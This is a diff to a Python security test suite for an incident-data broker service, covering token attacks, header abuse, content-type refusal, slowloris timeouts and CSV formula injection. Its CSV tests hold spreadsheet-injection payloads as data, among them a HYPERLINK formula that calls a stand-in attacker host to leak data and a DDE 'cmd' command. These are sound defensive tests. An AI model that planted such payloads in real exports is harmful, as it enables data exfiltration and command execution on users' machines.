@@ -7,7 +7,7 @@ import asyncio
 import csv
 import io
 import json
-from datetime import timedelta
+from datetime import datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -20,6 +20,9 @@ from broker.demo import DemoEnvironment
 from broker.service import Broker
 from tests.helpers import audit_entries, stored_records
 from tests.token_attacks import attack_tokens
+
+# HTTP ingest takes JSON only (415 otherwise).
+JSON = {"Content-Type": "application/json"}
 
 
 def token(broker: Broker, role: str, consumer: str | None = None, sub: str = "someone@example.org") -> str:
@@ -55,7 +58,7 @@ async def send(broker: Broker, env: DemoEnvironment, count: int, seed: int, part
         for _ in range(count):
             rec = gen.nte_incident(partner)
             body = env.signers[partner].sign_bytes("nte_incident", rec.data(), source_key=rec.source_key)
-            async with session.post(broker.url + "/v1/events", data=body) as resp:
+            async with session.post(broker.url + "/v1/events", data=body, headers=JSON) as resp:
                 assert resp.status == 202, await resp.text()
 
 
@@ -110,24 +113,113 @@ async def test_audit_routes_need_the_ig_role(broker: Broker) -> None:
     assert body["ok"] is True
 
 
-async def test_token_attack_matrix_is_401_and_audited(broker: Broker) -> None:
+# Every route that needs a bearer token, with a concrete path to request, and a token role it
+# refuses (403). A route added to the app and not listed here fails the test below.
+PUBLIC_ROUTES = {
+    ("POST", "/v1/events"),  # partners authenticate by signature, not by token
+    ("GET", "/healthz"),
+    ("GET", "/readyz"),
+    ("GET", "/openapi.json"),
+    ("GET", "/metrics"),  # unauthenticated by design (counts only; NetworkPolicy): http_metrics.py
+}
+PROTECTED_ROUTES: dict[tuple[str, str], tuple[str, str | None]] = {
+    ("GET", "/v1/feeds/{consumer}/records"): ("/v1/feeds/derby-csp-analysts/records", "ig"),
+    ("GET", "/v1/feeds/{consumer}/stream"): ("/v1/feeds/derby-csp-analysts/stream", "admin"),
+    ("GET", "/v1/audit/entries"): ("/v1/audit/entries", "analyst"),
+    ("GET", "/v1/audit/export"): ("/v1/audit/export", "analyst"),
+    ("GET", "/v1/audit/trace/{record_id}"): ("/v1/audit/trace/derby-pubwatch:0123456789abcdef", "analyst"),
+    ("GET", "/v1/audit/checkpoints"): ("/v1/audit/checkpoints", "analyst"),
+    ("GET", "/v1/audit/verify"): ("/v1/audit/verify", "analyst"),
+    ("GET", "/v1/agreements"): ("/v1/agreements", None),
+}
+
+
+def app_routes(broker: Broker) -> set[tuple[str, str]]:
+    assert broker.runner is not None
+    return {
+        (route.method, route.resource.canonical)
+        for route in broker.runner.app.router.routes()
+        if route.resource is not None and route.method != "HEAD"
+    }
+
+
+def test_every_route_is_public_on_purpose_or_in_the_token_matrix(broker: Broker) -> None:
+    # Threat: a new route mounted without authenticate(), or one the attack matrix never tries.
+    assert app_routes(broker) - PUBLIC_ROUTES == set(PROTECTED_ROUTES)
+
+
+async def test_token_attack_matrix_on_every_protected_route_is_refused_and_audited(broker: Broker) -> None:
     kid, key = load_or_create_broker_key(broker.settings.effective_broker_key)
     cases = attack_tokens(key, kid, issuer=DEFAULT_ISSUER, audience=DEFAULT_AUDIENCE)
-    assert len(cases) >= 18
-    audited = []
-    for name, tok, expected in cases:
-        status, body, _ = await get(broker, "/v1/feeds/derby-csp-analysts/records", tok)
-        if len(tok) > 8000:
-            # aiohttp's HTTP parser refuses a header line over 8 KiB before any handler runs.
-            assert status == 400, name
-            continue
-        assert status == 401, name
-        assert body["reason"] == expected, name
-        audited.append(expected)
+    assert len(cases) >= 80
+    expected: list[str] = []
+    async with aiohttp.ClientSession() as session:
+        for (method, template), (path, wrong_role) in PROTECTED_ROUTES.items():
+            attempts = list(cases)
+            if wrong_role is not None:
+                consumer = "derby-csp-analysts" if wrong_role == "analyst" else None
+                attempts.append(("wrong_role", token(broker, wrong_role, consumer), "role_not_allowed"))
+            for name, tok, reason in attempts:
+                headers = auth(tok) if tok else {}
+                async with session.request(method, broker.url + path, headers=headers) as resp:
+                    body = await resp.json()
+                    where = f"{template} {name}"
+                    # never a 5xx, never a read: 401 for a bad token, 403 for a good one of the wrong role
+                    assert resp.status == (403 if reason == "role_not_allowed" else 401), where
+                    assert body["reason"] == reason, where
+                expected.append(reason)
     denied = audit_entries(db(broker), "access_denied")
-    assert [d["reason"] for d in denied] == audited
+    assert [d["reason"] for d in denied] == expected  # one access_denied entry per refusal, in order
+    assert audit_entries(db(broker), "accessed") == []
     text = json.dumps(denied)
     assert all(tok not in text for _, tok, _ in cases if len(tok) > 20)  # tokens are never stored
+
+
+async def test_duplicate_consumer_claim_does_not_read_the_vru_feed(broker: Broker, env: DemoEnvironment) -> None:
+    # Issue 11 item 7: {"consumer": "derby-csp-analysts", ..., "consumer": "derbyshire-vru"},
+    # validly signed, read the VRU feed ("last wins").
+    await send(broker, env, 3, seed=11)
+    kid, key = load_or_create_broker_key(broker.settings.effective_broker_key)
+    cases = {name: tok for name, tok, _ in attack_tokens(key, kid, issuer=DEFAULT_ISSUER, audience=DEFAULT_AUDIENCE)}
+    for path in ("/v1/feeds/derbyshire-vru/records", "/v1/feeds/derby-csp-analysts/records"):
+        status, body, _ = await get(broker, path, cases["duplicate_consumer_csp_then_vru"])
+        assert status == 401, path
+        assert body["reason"] == "token_malformed"
+    assert [d["reason"] for d in audit_entries(db(broker), "access_denied")] == ["token_malformed"] * 2
+    assert audit_entries(db(broker), "accessed") == []
+
+
+async def test_oversized_authorization_header_is_401_audited_and_never_stored(broker: Broker) -> None:
+    # Issue 11 item 8: a header too large for the verifier is a token refusal like any other (401
+    # with a challenge, audited), not a parser 400 that leaves no trace.
+    canary = "OVERSIZED-CANARY-7f3a"
+    for size in (9_000, 20_000, 30_000):
+        value = "Bearer " + (canary * (size // len(canary) + 1))[:size]
+        async with (
+            aiohttp.ClientSession() as session,
+            session.get(broker.url + "/v1/audit/entries", headers={"Authorization": value}) as resp,
+        ):
+            assert resp.status == 401, size
+            assert (await resp.json())["reason"] == "token_malformed"
+            assert resp.headers["WWW-Authenticate"].startswith("Bearer")
+    denied = audit_entries(db(broker), "access_denied")
+    assert [d["reason"] for d in denied] == ["token_malformed"] * 3
+    assert canary not in db(broker).read_bytes().decode("latin-1")
+
+
+async def test_two_authorization_headers_are_refused(broker: Broker) -> None:
+    # A proxy and the broker could each act on a different one of two Authorization headers.
+    good = token(broker, "ig")
+    async with (
+        aiohttp.ClientSession() as session,
+        session.get(
+            broker.url + "/v1/audit/entries",
+            headers=[("Authorization", f"Bearer {good}"), ("Authorization", "Bearer x")],
+        ) as resp,
+    ):
+        assert resp.status == 401
+        assert (await resp.json())["reason"] == "token_malformed"
+    assert audit_entries(db(broker), "access_denied")[-1]["reason"] == "token_malformed"
 
 
 async def test_paging_under_concurrent_inserts_returns_each_record_once(broker: Broker, env: DemoEnvironment) -> None:
@@ -284,3 +376,218 @@ async def test_bad_query_parameters_are_400_not_500(broker: Broker) -> None:
     ):
         status, body, _ = await get(broker, path, tok, **params)
         assert status == 400, (path, params, body)
+
+
+# -- HTTP ingest media type (issue 11 item 5) --------------------------------------------------------
+async def test_ingest_refuses_every_content_type_but_json_with_415(broker: Broker, env: DemoEnvironment) -> None:
+    # The attack: a valid signed envelope sent as a form, as text/plain (a browser's CORS "simple
+    # request" needs no preflight), as XML, with no type, with another charset: each must be
+    # refused before it is parsed, and nothing kept.
+    gen = SyntheticGenerator(seed=21)
+    refused = [
+        None,
+        "application/octet-stream",
+        "text/plain",
+        "application/x-www-form-urlencoded",
+        "multipart/form-data; boundary=x",
+        "application/xml",
+        "application/json; charset=latin-1",
+        "application/json; charset=utf-16",
+        "application/jsonx",
+        "text/json",
+        "application/problem+json",
+    ]
+    async with aiohttp.ClientSession() as session:
+        for content_type in refused:
+            rec = gen.nte_incident("derby-pubwatch")
+            body = env.signers["derby-pubwatch"].sign_bytes("nte_incident", rec.data(), source_key=rec.source_key)
+            headers = {} if content_type is None else {"Content-Type": content_type}
+            # skip_auto_headers: aiohttp would add application/octet-stream to a bodied request
+            async with session.post(
+                broker.url + "/v1/events", data=body, headers=headers, skip_auto_headers=["Content-Type"]
+            ) as resp:
+                assert resp.status == 415, content_type
+                answer = await resp.json()
+                assert answer["reason"] == "unsupported_media_type", content_type
+                assert "application/json" in answer["message"]
+        # Two Content-Type headers: which one a proxy acted on is unknown.
+        rec = gen.nte_incident("derby-pubwatch")
+        body = env.signers["derby-pubwatch"].sign_bytes("nte_incident", rec.data(), source_key=rec.source_key)
+        two = [("Content-Type", "application/json"), ("Content-Type", "text/plain")]
+        async with session.post(broker.url + "/v1/events", data=body, headers=two) as resp:
+            assert resp.status in (400, 415)  # aiohttp's parser refuses a second Content-Type first
+        accepted = ["application/json", "application/cloudevents+json", "Application/JSON; charset=UTF-8"]
+        for content_type in accepted:
+            rec = gen.nte_incident("derby-pubwatch")
+            body = env.signers["derby-pubwatch"].sign_bytes("nte_incident", rec.data(), source_key=rec.source_key)
+            async with session.post(broker.url + "/v1/events", data=body, headers={"Content-Type": content_type}) as r:
+                assert r.status == 202, content_type
+    assert len(stored_records(db(broker))) > 0
+    assert len(audit_entries(db(broker), "received")) == len(accepted)
+
+
+# -- CSV formula injection (issue 11 item 15) ----------------------------------------------------------
+FORMULA_SIGNS = ("=", "+", "-", "@")
+LEADING_SPACE = ["", " ", "  ", "\t", "\r", "\n", "\r\n", " \t\r\n ", "\u00a0", "\u3000", "\u2003", "\x0b", "\x0c"]
+
+
+def spreadsheet_reads_a_formula(cell: str) -> bool:
+    """The oracle, written from what a spreadsheet does rather than from csv_cell: leading
+    whitespace skipped, compatibility characters folded (NFKC), then the formula signs; a cell
+    starting with a tab or CR is quoted in any case (OWASP)."""
+    import unicodedata
+
+    if cell.startswith(("\t", "\r")):
+        return True
+    folded = unicodedata.normalize("NFKC", cell).lstrip()
+    return folded.startswith(FORMULA_SIGNS)
+
+
+def test_csv_neutralises_every_character_that_folds_to_a_formula_sign_after_any_whitespace() -> None:
+    import sys
+    import unicodedata
+
+    from broker.transports.http_access import csv_cell
+
+    # Exhaustive over the code space: every character whose NFKC form starts with = + - @
+    # (fullwidth ＝＋－＠, small ﹦﹢﹣﹫, superscript ⁺⁼, subscript ₊₌₋ ...), after every prefix.
+    signs = [
+        chr(c)
+        for c in range(sys.maxunicode + 1)
+        if not 0xD800 <= c <= 0xDFFF and unicodedata.normalize("NFKC", chr(c)).startswith(FORMULA_SIGNS)
+    ]
+    assert {"＝", "＋", "－", "＠", "﹦", "⁼"} <= set(signs)
+    for sign in signs:
+        for prefix in LEADING_SPACE:
+            cell = prefix + sign + 'HYPERLINK("https://attacker.example","x")'
+            out = csv_cell(cell)
+            assert out == "'" + cell, (prefix, sign)
+            assert not spreadsheet_reads_a_formula(out)
+    for harmless in ("abc", " abc", "\u00a0x", "2026-01-01", "x=1", "", "   ", "'=already"):
+        assert csv_cell(harmless) == harmless
+
+
+def test_csv_cell_never_leaves_a_formula_hypothesis() -> None:
+    from hypothesis import given, settings
+    from hypothesis import strategies as st
+
+    from broker.transports.http_access import csv_cell
+
+    pieces = st.sampled_from([*LEADING_SPACE[1:], "＝", "＋", "－", "＠", "=", "a"])
+    prefix = st.lists(pieces, max_size=4).map("".join)
+
+    @settings(max_examples=400, deadline=None)
+    @given(prefix, st.text(max_size=12))
+    def check(head: str, tail: str) -> None:
+        cell = head + tail
+        out = csv_cell(cell)
+        assert out in (cell, "'" + cell)
+        assert not spreadsheet_reads_a_formula(out) or out.startswith("'")
+        if spreadsheet_reads_a_formula(cell):
+            assert out.startswith("'")
+
+    check()
+
+
+# -- slow clients (issue 11 item 9) --------------------------------------------------------------------
+async def slow_broker(env: DemoEnvironment, tmp_path: Path) -> Broker:
+    from broker.settings import Settings
+
+    settings = Settings(
+        keys_dir=env.keys_dir,
+        secrets_file=env.secrets_file,
+        data_dir=tmp_path,
+        http_port=0,
+        http_header_timeout=0.5,
+        http_body_timeout=0.5,
+    )
+    instance = Broker(settings)
+    await instance.start()
+    return instance
+
+
+async def stalled(broker: Broker, sent: bytes, bound: float = 10.0) -> bytes:
+    """Open a raw connection, send ``sent``, stall; return what the server answered before it
+    closed the connection (which must happen well before ``bound``)."""
+    host, port = broker.url.removeprefix("http://").split(":")
+    reader, writer = await asyncio.open_connection(host, int(port))
+    try:
+        writer.write(sent)
+        await writer.drain()
+        return await asyncio.wait_for(reader.read(), bound)  # read() returns at EOF: the server closed
+    finally:
+        writer.close()
+
+
+async def test_a_stalled_chunked_body_is_answered_408_and_closed(env: DemoEnvironment, tmp_path: Path) -> None:
+    broker = await slow_broker(env, tmp_path)
+    try:
+        head = (
+            "POST /v1/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+            "Transfer-Encoding: chunked\r\n\r\n"
+        )
+        answer = await stalled(broker, head.encode() + b'10\r\n{"specversion":')
+        assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
+        assert b"request_timeout" in answer
+        # A declared Content-Length the client never finishes: the same.
+        head = "POST /v1/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n"
+        answer = await stalled(broker, head.encode() + b"{")
+        assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
+    finally:
+        await broker.stop()
+
+
+async def test_stalled_headers_are_closed(env: DemoEnvironment, tmp_path: Path) -> None:
+    broker = await slow_broker(env, tmp_path)
+    try:
+        # Slowloris: a request head that never ends, and a connection that never sends anything.
+        assert await stalled(broker, b"GET /v1/agreements HTTP/1.1\r\nHost: x\r\nX-Slow: a") == b""
+        assert await stalled(broker, b"") == b""
+        assert await stalled(broker, b"GET /v1/agreements HTTP/1.1\r\nHo") == b""
+    finally:
+        await broker.stop()
+
+
+async def test_audit_csv_export_neutralises_a_fullwidth_formula_planted_in_a_feed_path(broker: Broker) -> None:
+    # The attack end to end: an analyst asks for the feed of a "consumer" whose id is a formula
+    # after a space, in fullwidth signs; the refusal is audited with that consumer; the IG lead
+    # exports the audit trail as CSV and opens it in a spreadsheet.
+    from urllib.parse import quote
+
+    planted = [
+        '＝HYPERLINK("https://attacker.example/?leak","open me")',
+        " ＋cmd|' /C calc'!A0",
+        "\t－1+1",
+        "＠SUM(A1)",
+    ]
+    analyst = token(broker, "analyst", "derby-csp-analysts")
+    for value in planted:
+        status, _, _ = await get(broker, f"/v1/feeds/{quote(value, safe='')}/records", analyst)
+        assert status == 403, value
+    status, text, _ = await get(broker, "/v1/audit/export", token(broker, "ig", sub="ig-lead"), format="csv")
+    assert status == 200
+    rows = list(csv.reader(io.StringIO(text)))
+    for value in planted:
+        assert ["'" + value] == [cell for row in rows for cell in row if value in cell], value
+    assert all(not spreadsheet_reads_a_formula(cell) for row in rows for cell in row)
+
+
+async def test_a_token_that_breaks_the_verifier_is_still_a_401_and_audited(broker: Broker) -> None:
+    # Defence in depth behind the strict claim checks: whatever a token makes the verifier's code
+    # raise, the answer is a 401 with an access_denied entry, never a 500. The verifier is real; its
+    # clock is made to fail, the way an unforeseen claim value made datetime fail (exp 1e300).
+    def broken_clock() -> datetime:
+        raise OverflowError("date value out of range")
+
+    assert broker.access is not None
+    verifier = broker.access.verifier
+    original = verifier._clock
+    verifier._clock = broken_clock
+    try:
+        status, body, headers = await get(broker, "/v1/agreements", token(broker, "ig"))
+    finally:
+        verifier._clock = original
+    assert status == 401
+    assert body["reason"] == "token_malformed"
+    assert headers["WWW-Authenticate"].startswith("Bearer")
+    assert audit_entries(db(broker), "access_denied")[-1]["reason"] == "token_malformed"
